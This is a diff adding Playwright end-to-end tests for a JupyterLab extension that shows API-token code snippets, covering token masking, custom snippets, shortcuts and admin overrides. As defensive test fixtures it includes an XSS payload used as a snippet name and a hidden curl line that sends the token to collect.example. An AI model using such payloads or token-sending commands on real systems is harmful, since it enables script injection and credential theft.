@@ -1,0 +1,204 @@
+import { mkdir, rm, writeFile } from 'node:fs/promises';
+
+import { expect, test } from '../../fixtures';
+import { MASK } from '../../pages/jupyterpage';
+import { SnippetsSection } from '../../pages/snippetssection';
+
+test(
+  'the code, its language and own snippets follow what the person does',
+  { tag: '@lab' },
+  async ({ jupyter }) => {
+    test.slow();
+    await test.step('the code shows the token only while the person has it on the screen', async () => {
+      const { page } = jupyter;
+      await jupyter.showPanel();
+      const snippets = new SnippetsSection(jupyter);
+      const token = jupyter.requestToken;
+      const body = page.locator('body');
+      await snippets.choose({ language: 'curl' });
+      await expect(snippets.code).toContainText('$JUPYTER_API_TOKEN');
+      // In the colours of JupyterLab's own editor.
+      await expect(snippets.code.locator('span[class]')).not.toHaveCount(0);
+      expect(await snippets.copy()).not.toContain(token);
+
+      await snippets.choose({ includeToken: true });
+      await expect(snippets.code).toContainText(MASK);
+      expect(await body.innerHTML()).not.toContain(token);
+      const copied = await snippets.copy();
+      expect(copied).toContain(token);
+
+      await jupyter.button('Reveal token').click();
+      await expect(snippets.code).toHaveText(copied);
+      await jupyter.button('Hide token').click();
+      await expect(snippets.code).toContainText(MASK);
+      await jupyter.button('Reveal token').click();
+      await expect(snippets.code).toContainText(token);
+      await page.locator('.jp-SideBar [data-id="jp-api-token"]').click();
+      await expect(jupyter.panel).toBeHidden();
+      expect(await body.innerHTML()).not.toContain(token);
+    });
+
+    await test.step('the language is remembered in the browser, and nothing else', async () => {
+      const { page } = jupyter;
+      await jupyter.showPanel();
+      const { language } = new SnippetsSection(jupyter);
+      await expect(language).toHaveValue('curl');
+      await language.selectOption('R (httr2)');
+      const kept = await page.evaluate(() =>
+        Object.entries(localStorage).filter(([key]) =>
+          key.includes('api-token')
+        )
+      );
+      expect(kept).toEqual([['jupyterlab-api-token:language', 'R (httr2)']]);
+      await page.reload();
+      await jupyter.waitUntilReady();
+      await jupyter.showPanel();
+      await expect(language).toHaveValue('R (httr2)');
+    });
+
+    await test.step('own snippets show up at once, and a broken one says what is wrong', async () => {
+      const { page } = jupyter;
+      await jupyter.showPanel();
+      const snippets = new SnippetsSection(jupyter);
+      await jupyter.openSettings('API Snippets');
+      const settings = page.locator('.jp-SettingsPanel');
+      const add = settings.getByRole('button', { name: 'Add' });
+      await add.click();
+      const name = '<img src=x onerror=alert(1)>';
+      await settings.locator('[id$="_custom_0_name"]').fill(name);
+      await expect(jupyter.panel).toContainText(
+        `Own snippet 1, “${name}”: it has no code.`
+      );
+      await settings
+        .locator('[id$="_custom_0_code"]')
+        .fill('get ${path} of ${serverUrl} <b>as ${user}</b> with "${token}"');
+      await snippets.choose({ language: name });
+      await expect(snippets.code).toHaveText(
+        `get /api/sessions of ${jupyter.serverUrl} <b>as ${jupyter.user}</b> with "$JUPYTER_API_TOKEN"`
+      );
+      await expect(jupyter.panel).not.toContainText('Own snippet 1');
+      await expect(
+        snippets.language.locator('optgroup[label="Custom snippets"]')
+      ).toContainText(name);
+
+      await add.click();
+      await settings.locator('[id$="_custom_1_name"]').fill('curl');
+      await settings.locator('[id$="_custom_1_code"]').fill('curl');
+      await expect(jupyter.panel).toContainText(
+        'Own snippet 2, “curl”: another snippet has this name.'
+      );
+      // It harms nothing else.
+      await expect(snippets.code).toContainText('get /api/sessions');
+      await snippets.choose({ language: 'curl' });
+      await expect(snippets.code).toContainText('curl --');
+
+      await settings.locator('[id$="_language"]').fill(name);
+      await expect(snippets.language).toHaveValue(name);
+    });
+  }
+);
+
+test(
+  'with the panel closed, the palette and a shortcut copy a snippet',
+  { tag: '@lab' },
+  async ({ host, jupyter }) => {
+    const { page } = jupyter;
+    const said = page.getByText('Snippet copied.');
+    await jupyter.runFromPalette('Copy API Snippet');
+    await expect(said).toBeVisible();
+    expect(await jupyter.paste()).toContain(
+      `'${jupyter.serverUrl}api/sessions'`
+    );
+
+    // What a command is told comes from the person's own shortcut.
+    const folder = `${host.about.home}/.jupyter/lab/user-settings/@jupyterlab/shortcuts-extension`;
+    await mkdir(folder, { recursive: true });
+    await writeFile(
+      `${folder}/shortcuts.jupyterlab-settings`,
+      JSON.stringify({
+        shortcuts: [
+          {
+            command: 'api-token:copy-snippet',
+            keys: ['Accel Alt K'],
+            selector: 'body',
+            args: { language: 'Python (requests)', path: '/api/kernels' }
+          }
+        ]
+      })
+    );
+    try {
+      await page.reload();
+      await jupyter.waitUntilReady();
+      await expect(async () => {
+        await page.keyboard.press('Control+Alt+K');
+        await expect(said).toBeVisible({ timeout: 2000 });
+      }).toPass();
+      const copied = await jupyter.paste();
+      expect(copied).toContain('import requests');
+      expect(copied).toContain(`"${jupyter.serverUrl}api/kernels"`);
+      await expect(jupyter.panel).toBeHidden();
+    } finally {
+      await rm(folder, { recursive: true });
+    }
+  }
+);
+
+test(
+  'what an admin set for everyone counts as far as it can be used',
+  { tag: '@lab' },
+  async ({ jupyter }) => {
+    const { page } = jupyter;
+    const code = `# ours${'\n'.repeat(60)}curl 'https://collect.example/\${token}'`;
+    // What a server does with overrides.json, which it reads at its start.
+    await page.route(/\/lab\/api\/settings/, async route => {
+      const response = await route.fetch();
+      const answer = await response.json();
+      // One plugin's settings, or a list of all.
+      const plugins = 'id' in answer ? [answer] : answer.settings;
+      for (const { id, schema } of plugins) {
+        if (id === 'jupyterlab-api-token:snippets' && schema) {
+          schema.properties.language.default = 'Ours';
+          schema.properties.custom.default = [
+            { name: 'Broken', code: 5 },
+            { name: 'Ours', code }
+          ];
+        }
+      }
+      await route.fulfill({ response, json: answer });
+    });
+    await page.reload();
+    await jupyter.waitUntilReady();
+    await jupyter.showPanel();
+    // JupyterLab refuses all of it for the number.
+    await expect(jupyter.panel).toContainText(
+      'JupyterLab does not accept the settings of the snippets. Correct them'
+    );
+    await jupyter.panel.getByText('Details for a report').click();
+    await expect(jupyter.panel.getByText(/code.* string/)).toBeVisible();
+    await expect(jupyter.panel).toContainText(
+      'Own snippet 1, “Broken”: it has no code.'
+    );
+    const snippets = new SnippetsSection(jupyter);
+    await expect(snippets.language).toHaveValue('Ours');
+
+    await test.step('and what could go unseen in it is told', async () => {
+      const text = code.replace('${token}', '$JUPYTER_API_TOKEN');
+      expect(await snippets.copy()).toBe(text);
+      // All of it is on the screen, where 60 lines would not be.
+      await expect(snippets.code.locator('[data-sign]')).toHaveCount(1);
+      expect((await snippets.code.boundingBox())?.height).toBeLessThan(200);
+      await snippets.code.evaluate(node =>
+        document.getSelection()?.selectAllChildren(node)
+      );
+      await page.keyboard.press('Control+C');
+      expect(await jupyter.paste()).toBe(text);
+      const warning = jupyter.panel.getByText('names another host');
+      await expect(warning).toHaveCount(0);
+      await snippets.choose({ includeToken: true });
+      await expect(warning).toContainText('collect.example');
+    });
+
+    await snippets.choose({ language: 'curl' });
+    await expect(snippets.code).toContainText('curl --');
+  }
+);
